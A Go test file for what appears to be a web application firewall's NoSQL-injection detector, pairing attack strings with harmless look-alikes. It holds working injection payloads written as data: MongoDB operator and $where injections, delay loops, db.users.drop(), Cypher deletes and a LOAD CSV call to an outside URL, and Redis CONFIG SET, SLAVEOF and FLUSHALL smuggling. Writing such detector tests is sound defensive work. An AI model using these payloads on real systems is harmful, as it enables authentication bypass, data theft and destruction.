package nosql

import (
	"strings"
	"testing"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
)

var language = languagetest.Language{Class: detect.ClassNoSQLi, Possible: Possible, Judge: Judge, Rows: rows, Hostile: hostile}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

var rows = []languagetest.Row{
	{Shows: "nothing but a call of the database", Attack: "db.items.insert({a:1});", Twin: "use db.items to insert"},
	{Shows: "return behind a number", Attack: "1; return true", Twin: "1; returned twice"},
	{Shows: "operator in a parameter's name", Attack: "user[$ne]", Twin: "user[name]", IsName: true},
	{Shows: "operator as a JSON key", Attack: "$gt", Twin: "$schema", IsName: true},
	{Shows: "code as a JSON key", Attack: "$where", Twin: "$ref", IsName: true},
	{Shows: "pattern as a key", Attack: "$regex", Twin: "$id", IsName: true},
	{Shows: "list as a key", Attack: "pass[$in][]", Twin: "pass[in][]", IsName: true},
	{Shows: "a filter of a public API", Attack: "filter[password][$ne]", Twin: "filter[age][$gte]", IsName: true, Suspicious: true},
	{Shows: "whose code is code anywhere", Attack: "filter[$where]", Twin: "sort[$natural]", IsName: true},
	{Shows: "a credential in JSON", Attack: "$exists", Twin: "$schema", IsName: true, Under: "pwd", Top: "pwd"},
	{Shows: "a type as a condition on a secret", Attack: "$type", Twin: "$id", IsName: true, Under: "p", Top: "p"},
	{Shows: "a user is looked for by a filter", Attack: "users[password][$regex]", Twin: "where[username][$regex]", IsName: true, Suspicious: true},
	{Shows: "a condition on any field", Attack: `{"login":{"$ne":1}}`, Twin: `{"score":{"$gte":7},"done":{"$ne":true},"name":{"$in":["A"],"$regex":"^A"}}`, Suspicious: true},
	{Shows: "conditions combined, one of them empty", Attack: `{"$or":[{},{"a":1}]}`, Twin: `{"$or":[{"a":1},{"b":{"$gt":5}}]}`, Suspicious: true},
	{Shows: "a document of the query's ends", Attack: "' } ], $comment: 'y", Twin: "see }, $comment: y"},
	{Shows: "a busy loop in an expression", Attack: "'+(function(){var a=new Date();do{var b=new Date()}while(b-a<3000);return 2})()+'", Twin: "'+(function(){return new Date()})()+'"},
	{Shows: "dotted name", Attack: "user.$ne", Twin: "user.$set", IsName: true},
	{Shows: "analytics and OData keys", Attack: "$gt", Twin: "$filter", IsName: true},
	{Shows: "operator document", Attack: `{"$gt":""}`, Twin: `{"$ref":"#/definitions/a"}`},
	{Shows: "operator document without quotes", Attack: "{$ne: 1}", Twin: "{$name: 1}"},
	{Shows: "operator in a document", Attack: `{"user":{"$ne":null}}`, Twin: `{"price":{"$":5}}`},
	{Shows: "operator in single quotes", Attack: "{'$regex':'.*'}", Twin: "'$regex' is a variable"},
	{Shows: "operator pasted behind a value", Attack: "', $or: [ {}, { 'a':'a", Twin: "', $order: [1]"},
	{Shows: "condition pasted behind a value", Attack: "true, $where: '1 == 1'", Twin: "true, $where it hurts"},
	{Shows: "bracketed operator as text", Attack: "[$ne]=1", Twin: "[$5]=1"},
	{Shows: "price, shell and jQuery", Attack: `{"$nin":[]}`, Twin: "$price, ${HOME}, $(document).ready(f), $.ajax({url: x})"},
	{Shows: "PHP array", Attack: `{"$exists":true}`, Twin: `array('$gt' => 5)`},
	{Shows: "return in $where", Attack: "'; return true; var a='", Twin: "I'll return; true story"},
	{Shows: "return of a comparison", Attack: "';return 'a'=='a' && ''=='", Twin: "a'; return to sender"},
	{Shows: "return in brackets", Attack: `";return(true);var x='a`, Twin: `"hello"; return(0)`},
	{Shows: "condition on the document", Attack: "' && this.password.match(/.*/)//", Twin: "you' && this.is fun"},
	{Shows: "or on the document", Attack: "1 || this.role=='admin'", Twin: "1 || these"},
	{Shows: "tautology in JavaScript", Attack: "' || '1'=='1", Twin: "a || b == c"},
	{Shows: "tautology of numbers", Attack: "|| 1==1//", Twin: "|| x==1"},
	{Shows: "delay", Attack: "';sleep(5000);'", Twin: "'; sleep (well)"},
	{Shows: "busy loop", Attack: "0;var d=new Date();do{c=new Date();}while(c-d<10000)", Twin: "0; do it while (new Date lasts)"},
	{Shows: "database call behind a value", Attack: "0;db.users.drop()", Twin: "0; db.users is a table"},
	{Shows: "database script", Attack: "db.a.insert({x:1});return 1;", Twin: "db.a.b is the host"},
	{Shows: "Cypher delete", Attack: "' OR 1=1 WITH 1 as a MATCH (n) DETACH DELETE n//", Twin: "match (noun), detach, delete"},
	{Shows: "Cypher match", Attack: "'}) MATCH (u:User) RETURN u.password//", Twin: "it's a match (2-1) and they return"},
	{Shows: "Cypher file", Attack: "' LOAD CSV FROM 'http://x/'+n.name AS l RETURN l//", Twin: "load the csv from disk"},
	{Shows: "Cypher procedure", Attack: "' CALL db.labels() YIELD label RETURN 1//", Twin: "call db. admin"},
	{Shows: "Redis configuration", Attack: "x\r\nCONFIG SET dir /var/www\r\n", Twin: "line\r\nconfig set by hand\r\n"},
	{Shows: "Redis replication", Attack: "x\r\nSLAVEOF 10.0.0.1 6379\r\n", Twin: "line\r\nslave ship\r\n"},
	{Shows: "Redis protocol", Attack: "*2\r\n$4\r\nKEYS\r\n$1\r\n*\r\n", Twin: "* two\r\n$4 each\r\n"},
	{Shows: "Redis command with its words", Attack: "x\r\nSET a 2\r\n", Twin: "x\r\nSET a timer for two\r\n"},
	{Shows: "Redis command without any", Attack: "k\r\nSAVE\r\n", Twin: "k\r\nSave\r\n"},
	{Shows: "memcached", Attack: "k\r\nset a 0 60 3\r\nxyz\r\n", Twin: "k\r\nset a table for three\r\n"},
	{Shows: "Redis script", Attack: "x\r\nEVAL \"return 1\" 0\r\n", Twin: "line\r\nevaluate \"this\"\r\n"},
	{Shows: "Redis erasure", Attack: "x\r\nFLUSHALL\r\n", Twin: "line\r\nflush all of it\r\n"},
}

var hostile = []string{"$", "$ne", "{$", "{\"$ne\":", "[$ne]", "\r\n", "\r\n$", "*1\r\n$", "\r\nCONFIG ", "';", "; return ", ";do ", "|| ", "match (", "match (a) ", "call db.", "detach delete ", " ", ")", "or ", "[$ne", "';return"}

// A text about MongoDB is not an attack on one.
func TestDocumentation(t *testing.T) {
	text := "To find adults, write a filter. " + strings.Repeat("It is a document. ", 20) + "db.users.find({age: {$gte: 18}})"
	if m := language.Match(text); m.Confidence >= 0.7 {
		t.Errorf("%.2f %s", m.Confidence, m.Shape)
	}
}
